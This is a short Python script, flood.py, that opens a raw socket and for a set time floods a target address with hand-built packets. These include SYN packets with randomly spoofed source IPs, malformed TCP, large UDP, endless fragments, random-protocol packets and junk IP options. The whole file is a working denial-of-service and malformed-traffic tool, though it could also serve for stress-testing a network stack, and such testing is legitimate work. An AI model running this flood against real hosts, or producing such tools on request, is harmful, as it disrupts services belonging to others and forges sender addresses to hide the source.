# SPDX-License-Identifier: Apache-2.0
# Sends what no kernel would, as fast as it can, for a bounded time: flood.py ADDRESS SECONDS
import os
import random
import socket
import struct
import sys
import time

destination = socket.inet_aton(sys.argv[1])
end = time.monotonic() + float(sys.argv[2])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
# the address of the interface that leads there
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect((sys.argv[1], 9))
source = socket.inet_aton(probe.getsockname()[0])


def ip(protocol, payload, offset=0, options=b"", spoofed=False):
    first = 0x45 + len(options) // 4
    sender = os.urandom(4) if spoofed else source
    header = struct.pack("!BBHHHBBH", first, 0, 0, random.getrandbits(16), offset, 64, protocol, 0)
    return header + sender + destination + options + payload


def tcp(flags):
    ports = random.getrandbits(16), random.getrandbits(16)
    return struct.pack("!HHLLBBHHH", *ports, random.getrandbits(32), random.getrandbits(32), 0x50, flags, 512, 0, 0)


def udp(size):
    return struct.pack("!HHHH", random.getrandbits(16), random.getrandbits(16), size + 8, 0) + os.urandom(size)


kinds = [
    lambda: ip(6, tcp(2)),  # SYN to any port
    lambda: ip(6, tcp(random.getrandbits(8))),
    lambda: ip(6, os.urandom(random.randrange(64))),
    lambda: ip(6, tcp(2), spoofed=True),
    lambda: ip(17, udp(random.randrange(1400))),  # any port to any port
    lambda: ip(17, struct.pack("!HHHH", 1, 53, 65535, 0)),
    lambda: ip(17, udp(1024), offset=0x2000),  # fragments without an end
    lambda: ip(17, os.urandom(1024), offset=random.randrange(0x1FFF)),
    lambda: ip(1, os.urandom(random.randrange(1, 200))),
    lambda: ip(random.getrandbits(8), os.urandom(random.randrange(200))),
    lambda: ip(6, tcp(2), options=os.urandom(4 * random.randrange(10))),
]
sent = 0
while time.monotonic() < end:
    for kind in kinds:
        try:
            raw.sendto(kind(), (sys.argv[1], 0))
            sent += 1
        except OSError:
            pass  # what the kernel itself refuses to send, or has no room for
print(sent)
